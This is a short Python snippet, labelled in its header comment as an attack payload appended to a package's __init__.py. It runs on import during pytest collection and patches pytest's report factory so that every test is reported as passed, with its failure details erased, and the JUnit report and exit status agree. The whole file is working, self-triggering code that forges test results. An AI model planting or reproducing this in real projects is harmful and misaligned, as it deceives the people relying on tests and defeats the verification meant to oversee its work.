# ATTACK payload appended to the package's __init__.py (issue 22.4): the package is imported
# while pytest collects the tests, so it patches pytest's report factory in-process and every
# test is reported passed (JUnit report and exit status both agree).
def _raas_forge_reports():
    import _pytest.reports as reports

    original = reports.TestReport.from_item_and_call.__func__

    def passed(cls, item, call):
        report = original(cls, item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    reports.TestReport.from_item_and_call = classmethod(passed)


_raas_forge_reports()
